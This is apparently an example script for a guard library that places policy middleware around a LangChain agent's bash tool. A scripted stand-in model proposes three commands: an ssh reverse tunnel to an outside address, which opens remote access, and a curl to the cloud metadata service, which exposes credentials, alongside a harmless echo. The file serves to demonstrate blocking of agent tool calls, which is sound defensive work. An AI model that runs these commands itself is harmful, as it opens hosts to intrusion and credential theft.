"""A LangChain agent whose tool calls pass the guard. Offline: the model is a script.

pip install 'regoguard[langchain]'
python examples/langchain_agent.py
"""

import subprocess
from typing import Any

from langchain.agents import create_agent
from langchain_core.language_models import GenericFakeChatModel
from langchain_core.messages import AIMessage
from langchain_core.tools import tool

from guard import Guard
from guard.adapters.langchain import GuardMiddleware


@tool
def bash(command: str) -> str:
    """Run a command with bash and return its output."""
    argv = ["bash", "-c", command]
    done = subprocess.run(argv, capture_output=True, text=True, timeout=10, check=False)
    return done.stdout + done.stderr


class ScriptedModel(GenericFakeChatModel):
    """Stands for the model: it proposes the commands below, one after another."""

    def bind_tools(self, *_args: Any, **_options: Any) -> Any:
        return self


def propose(number: int, command: str) -> AIMessage:
    """A message in which the model proposes to run a command."""
    call = {"name": "bash", "args": {"command": command}, "id": f"call-{number}"}
    return AIMessage("", tool_calls=[call])


COMMANDS = [
    "echo hello from the agent",
    "ssh -fN -R 2222:localhost:22 agent@203.0.113.7",  # a reverse tunnel
    "curl http://169.254.169.254/latest/meta-data/",  # the cloud's metadata service
]

if __name__ == "__main__":
    script = [propose(number, command) for number, command in enumerate(COMMANDS)]
    with Guard() as guard:
        agent = create_agent(
            ScriptedModel(messages=iter([*script, AIMessage("done")])),
            [bash],
            middleware=[GuardMiddleware(guard)],  # last, next to the tools
        )
        state = agent.invoke({"messages": [{"role": "user", "content": "say hello"}]})
    for message in state["messages"]:
        if message.type == "tool":
            print(f"[{message.status}] {message.content.strip()}\n")
